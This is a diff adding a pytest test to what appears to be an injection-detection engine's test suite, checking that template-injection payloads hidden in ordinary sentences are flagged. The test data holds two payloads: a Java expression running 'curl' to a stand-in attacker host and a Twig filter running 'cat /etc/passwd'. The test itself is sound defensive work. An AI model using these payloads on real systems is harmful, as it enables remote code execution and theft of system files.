@@ -523,6 +523,21 @@ def test_php_functions_called_bare(engine: DetectionEngine, value: str, flagged:
     assert engine.detect(value)["is_threat"] is flagged
 
 
+@pytest.mark.parametrize(
+    "value",
+    [
+        "Dear customer ${T(java.lang.Runtime).getRuntime().exec('curl http://attacker.example/x')}"
+        ", thanks for your order",
+        "Bio: I love hiking {{['cat /etc/passwd']|filter('system')}} and coffee",
+    ],
+)
+def test_a_payload_near_the_end_of_a_sentence(engine: DetectionEngine, value: str) -> None:
+    """The closer reading of payloads in prose reaches a payload whose neighbourhood runs to
+    the end of the text."""
+    result = engine.detect(value)
+    assert result["is_threat"] and result["attack_class"] == "ssti"
+
+
 def test_documentation_showing_a_template_sum_reads_as_prose(engine: DetectionEngine) -> None:
     value = ("Angular interpolation uses double curly braces, so {{ 1 + 1 }} renders as 2 in "
              "the view.")
